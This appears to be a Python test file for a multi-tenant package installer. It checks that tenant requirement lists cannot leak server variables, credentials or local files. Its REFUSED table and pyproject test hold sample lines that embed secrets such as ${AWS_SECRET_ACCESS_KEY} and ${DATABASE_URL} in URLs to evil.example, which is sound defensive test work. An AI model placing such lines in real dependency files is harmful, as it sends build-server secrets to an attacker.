"""What a tenant's list of packages gets from the server that installs them: no variable, password or file of its."""

import base64
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import attrs
import pytest

from flux.errors import OperatorError
from flux.supervisor.environment_build import InstallFailedError
from flux.supervisor.environment_installer import NotForTenantsError
from flux.supervisor.environments import Environments
from tests.wheels import write_wheel

REFUSED = {
    "--index-url https://evil.example/${DATABASE_URL}/simple\nplain\n": "variable",
    "x @ https://evil.example/${AWS_SECRET_ACCESS_KEY}/x-1-py3-none-any.whl\n": "variable",
    "--index-url https://evil.example/$'{'PATH'}'/simple\nplain\n": "variable",
    "plain\n-f https://evil.example/${HOME}\n": "variable",
    "-c more.txt\nplain\n": "variable",
    "x @ file:///srv/beta/x-1-py3-none-any.whl\n": "files",
    "x @ FILE:///srv/beta/x-1-py3-none-any.whl\n": "files",
    "file:///srv/beta/x-1-py3-none-any.whl\n": "files",
    "--find-links ../beta/wheels\nplain\n": "files",
    "--extra-index-url file:///srv/beta/simple\nplain\n": "files",
    "--index-url /srv/beta/simple\nplain\n": "files",
}


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "acme"
    root.mkdir()
    (root / "more.txt").write_text("plain @ https://evil.example/${DATABASE_URL}/plain-1-py3-none-any.whl\n")
    return root


@attrs.define
class Index:
    """A server that has no packages, or says that it has this one, and remembers what it was sent."""

    port: int
    sent: list[str] = attrs.field(factory=list)
    offered: Path | None = None


@pytest.fixture
def index() -> Iterator[Index]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            made.sent.append(f"{self.path} {self.headers}")
            if made.offered is None:
                self.send_error(404)
                return
            page = f'<a href="{made.offered.as_uri()}">{made.offered.name}</a>'.encode()
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.send_header("content-length", str(len(page)))
            self.end_headers()
            self.wfile.write(page)

        def log_message(self, format: str, *args: object) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        made = Index(server.server_address[1])
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield made
        server.shutdown()
        thread.join()


@pytest.mark.parametrize("text", REFUSED)
async def test_a_tenant_s_list_may_name_no_variable_and_no_file_of_the_server(text: str, project: Path) -> None:
    (project / "requirements.txt").write_text(text)
    with pytest.raises(NotForTenantsError, match=REFUSED[text]):
        await Environments(project / "environments", for_tenant=True).provide(project)
    assert not (project / "environments").exists(), "nothing was started"


async def test_a_tenant_s_pyproject_toml_may_not_either(project: Path) -> None:
    (project / "pyproject.toml").write_text(
        '[project]\ndependencies = ["x @ https://evil.example/${HTTPS_PROXY}/x-1-py3-none-any.whl"]\n'
    )
    with pytest.raises(NotForTenantsError, match="variable"):
        await Environments(project / "environments", for_tenant=True).provide(project)


@pytest.mark.parametrize("installer", ["pip", "uv"])
async def test_a_tenant_s_own_wheel_is_installed_and_none_that_an_index_or_a_package_names_elsewhere(
    installer: str, project: Path, index: Index, tmp_path: Path
) -> None:
    write_wheel(tmp_path / "beta", "private", {"private.py": ""})
    index.offered = next((tmp_path / "beta").iterdir())
    write_wheel(project / "wheels", "own", {"own.py": ""})
    write_wheel(
        project / "wheels", "bridge", {"bridge.py": ""}, requires=[f"private @ {index.offered.as_uri()}"]
    )
    own, bridge = (next((project / "wheels").glob(f"{name}-*")).name for name in ("own", "bridge"))
    environments = Environments(project / "environments", for_tenant=True)
    texts = {
        "pip": f"--index-url http://127.0.0.1:{index.port}/simple\nprivate\n",
        "uv": f"--no-index\n./wheels/{bridge}\n",
    }
    (project / "requirements.txt").write_text(texts[installer])
    with pytest.raises(InstallFailedError, match="Permission denied"):
        await environments.provide(project, installer=installer)
    assert any("/simple/private/" in sent for sent in index.sent) == (installer == "pip")
    (project / "requirements.txt").write_text(f"--no-index\n./wheels/{own}\n")
    found = await environments.provide(project, installer=installer)
    assert found is not None and found.packages == (("own", "1.0"),)


async def test_an_index_that_a_tenant_names_gets_no_password_of_the_operator_s_nor_is_theirs_asked(
    project: Path, index: Index, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    (home / ".config" / "pip").mkdir(parents=True)
    (home / ".config" / "uv").mkdir(parents=True)
    (home / ".netrc").write_text("machine 127.0.0.1 login me password swordfish\n")
    (home / ".netrc").chmod(0o600)
    theirs = f"http://127.0.0.1:{index.port}/operator/simple"
    (home / ".config" / "pip" / "pip.conf").write_text(f"[global]\nextra-index-url = {theirs}\n")
    (home / ".config" / "uv" / "uv.toml").write_text(f'extra-index-url = ["{theirs}"]\n')
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(home / ".config"))
    monkeypatch.setenv("NETRC", str(home / ".netrc"))
    monkeypatch.setenv("HTTPS_PROXY", "http://me:swordfish@127.0.0.1:9")
    for name in ("PIP_EXTRA_INDEX_URL", "UV_EXTRA_INDEX_URL", "PIP_FIND_LINKS", "UV_INDEX"):
        monkeypatch.setenv(name, theirs)
    for name in ("PIP_RETRIES", "UV_HTTP_RETRIES"):
        monkeypatch.setenv(name, "0")
    for name in ("http_proxy", "HTTP_PROXY", "all_proxy", "ALL_PROXY"):
        monkeypatch.delenv(name, raising=False)
    (project / "requirements.txt").write_text(f"--index-url http://127.0.0.1:{index.port}/simple\nplain\n")
    for installer in ("pip", "uv"):
        for is_tenant in (True, False):
            index.sent.clear()
            environments = Environments(project / "environments", for_tenant=is_tenant)
            with pytest.raises(OperatorError) as caught:
                await environments.provide(project, installer=installer)
            assert isinstance(caught.value, InstallFailedError), caught.value
            seen = "\n".join(index.sent)
            assert "/simple/plain/" in seen
            has_password = base64.b64encode(b"me:swordfish").decode() in seen
            assert (has_password, "/operator/" in seen) == (not is_tenant, not is_tenant), (installer, seen)
